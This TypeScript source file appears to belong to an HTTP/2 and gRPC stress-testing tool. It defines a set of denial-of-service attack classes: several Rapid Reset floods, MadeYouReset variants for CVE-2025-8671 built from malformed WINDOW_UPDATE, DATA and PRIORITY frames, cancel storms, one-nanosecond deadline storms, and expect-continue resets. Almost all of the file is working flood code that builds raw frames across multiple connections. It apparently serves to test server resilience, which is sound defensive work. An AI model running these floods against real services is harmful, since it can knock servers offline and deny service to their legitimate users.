import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.js";
import type { AttackClass } from "../attack-class.js";
import type { RawConnection } from "../raw/connection.js";
import {
  data,
  END_HEADERS,
  END_STREAM,
  frame,
  FrameType,
  headers,
  MAX_WINDOW,
  repeated,
  reset,
  uint32,
  windowUpdate,
} from "../raw/frames.js";
import {
  CHECK,
  CHECK_PATH,
  EMPTY_MESSAGE,
  field,
  grpcMessage,
  HEALTH_CHECK_PATH,
  HEALTH_WATCH_PATH,
  REFLECTION_PATH,
  requestBlock,
  shortBlocks,
} from "../raw/requests.js";

const CONNECTIONS = 8;
const CALLS_A_WRITE = 100;
const MAX_OPEN_CALLS = 800;
const CALLERS = 300;
const CALLERS_TURN_MS = 50;
/** Of so many calls of the callers one is kept. */
const ONE_KEPT_OF = 10;
const ANSWER_PATIENCE_MS = 30_000;

const LIST_SERVICES = grpcMessage(field(7, "*"));

/** Calls that are reset in the same write that begins them. @param body undefined: only their headers are sent */
function rapidReset(
  path: string,
  {
    body,
    isEnded = false,
    more = [],
  }: {
    readonly body?: Buffer;
    readonly isEnded?: boolean;
    readonly more?: readonly (readonly [string, string])[];
  } = {},
) {
  const { first, later } = shortBlocks(path, more);
  return (attack: Attack) =>
    attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
      const isFirst = connection.nextStream === 3;
      return repeated(CALLS_A_WRITE, (index) => {
        const stream = connection.takeStream();
        const begin = headers(
          stream,
          isFirst && index === 0 ? first : later,
          isEnded ? END_HEADERS | END_STREAM : END_HEADERS,
        );
        return Buffer.concat([begin, ...(body === undefined ? [] : [data(stream, body, END_STREAM)]), reset(stream)]);
      });
    });
}

/** Calls that the client has the server reset (CVE-2025-8671). */
function madeYouReset(fault: (stream: number) => Buffer, hasInnocent: boolean) {
  const { first, later } = shortBlocks(HEALTH_WATCH_PATH);
  return (attack: Attack) =>
    attack.flood({ connections: CONNECTIONS, hasInnocent }, (connection) => {
      const isFirst = connection.nextStream === (hasInnocent ? 3 : 1);
      return repeated(CALLS_A_WRITE, (index) => {
        const stream = connection.takeStream();
        return Buffer.concat([
          headers(stream, isFirst && index === 0 ? first : later),
          data(stream, EMPTY_MESSAGE, END_STREAM),
          fault(stream),
        ]);
      });
    });
}

/** What a proxy carries: many callers without fault on one connection, most of whom lose patience. */
async function cancelStorm(attack: Attack): Promise<void> {
  const block = requestBlock(CHECK_PATH);
  await attack.eachUntilOver(1, async () => {
    const connection = attack.open();
    if (!(await connection.connected())) return;
    const kept: Promise<void>[] = [];
    while (connection.isOpen && connection.goAway === undefined && !attack.isOver) {
      const calls: Buffer[] = [];
      for (let caller = 0; caller < CALLERS; caller++) {
        const stream = connection.takeStream();
        calls.push(headers(stream, block));
        if (caller % ONE_KEPT_OF !== 0) calls.push(reset(stream));
        else {
          calls.push(data(stream, CHECK, END_STREAM));
          kept.push(countKept(attack, connection, stream));
        }
      }
      await connection.write(Buffer.concat(calls));
      await attack.pause(CALLERS_TURN_MS);
    }
    await Promise.all(kept);
    connection.abort();
  });
}

async function countKept(attack: Attack, connection: RawConnection, stream: number): Promise<void> {
  const isAnswered = await connection.answered(stream, ANSWER_PATIENCE_MS);
  // A call beyond what a GOAWAY names was not begun, and its caller asks again.
  if (stream <= connection.lastServed) attack.countInnocent(isAnswered);
}

/** Calls whose deadline has passed when they arrive. */
function deadlineStorm(path: string, body: Buffer) {
  const block = requestBlock(path, { more: [["grpc-timeout", "1n"]] });
  return (attack: Attack) =>
    attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
      if (connection.openCalls > MAX_OPEN_CALLS) return undefined;
      return repeated(CALLS_A_WRITE, () => {
        const stream = connection.takeStream();
        return Buffer.concat([headers(stream, block), data(stream, body, END_STREAM)]);
      });
    });
}

async function expectAndReset(attack: Attack): Promise<void> {
  const block = requestBlock("/", { more: [["expect", "100-continue"]] });
  await attack.flood({ connections: CONNECTIONS, hasInnocent: true }, (connection) => {
    const stream = connection.takeStream();
    return Buffer.concat([headers(stream, block), reset(stream)]);
  });
}

export const RESETS: readonly AttackClass[] = [
  { name: "rapid-reset", title: "Rapid Reset: a check's headers and RST_STREAM", run: rapidReset(CHECK_PATH) },
  {
    name: "rapid-reset-answered",
    title: "Rapid Reset of complete checks",
    run: rapidReset(CHECK_PATH, { body: CHECK }),
  },
  {
    name: "rapid-reset-health",
    title: "Rapid Reset of Health/Check",
    run: rapidReset(HEALTH_CHECK_PATH, { isEnded: true }),
  },
  {
    name: "rapid-reset-watch",
    title: "Rapid Reset of Health/Watch, a stream of answers",
    run: rapidReset(HEALTH_WATCH_PATH, { body: EMPTY_MESSAGE }),
  },
  {
    name: "rapid-reset-reflection",
    title: "Rapid Reset of server reflection",
    run: rapidReset(REFLECTION_PATH, { body: LIST_SERVICES }),
  },
  {
    name: "rapid-reset-gzip",
    title: "Rapid Reset of gzipped checks",
    run: rapidReset(CHECK_PATH, {
      body: grpcMessage(gzipSync(CHECK.subarray(5)), true),
      more: [["grpc-encoding", "gzip"]],
    }),
  },
  {
    name: "made-you-reset-overflow",
    title: "MadeYouReset: a stream's window overflows",
    run: madeYouReset((stream) => windowUpdate(stream, MAX_WINDOW), true),
  },
  {
    name: "made-you-reset-zero",
    title: "MadeYouReset: WINDOW_UPDATE of 0",
    run: madeYouReset((stream) => windowUpdate(stream, 0), true),
  },
  {
    name: "made-you-reset-data",
    title: "MadeYouReset: DATA behind the end",
    run: madeYouReset((stream) => data(stream, Buffer.of(0)), false),
  },
  {
    name: "made-you-reset-priority",
    title: "MadeYouReset: a stream that depends on itself",
    run: madeYouReset(
      (stream) => frame(FrameType.Priority, 0, stream, Buffer.concat([uint32(stream), Buffer.of(0)])),
      false,
    ),
  },
  { name: "cancel-storm", title: "300 callers through one connection, 9 of 10 calls cancelled", run: cancelStorm },
  { name: "deadline-storm", title: "Checks with a deadline of 1 ns", run: deadlineStorm(CHECK_PATH, CHECK) },
  {
    name: "deadline-storm-watch",
    title: "Health/Watch with a deadline of 1 ns",
    run: deadlineStorm(HEALTH_WATCH_PATH, EMPTY_MESSAGE),
  },
  { name: "expect-reset", title: "expect: 100-continue and RST_STREAM in one write", run: expectAndReset },
];
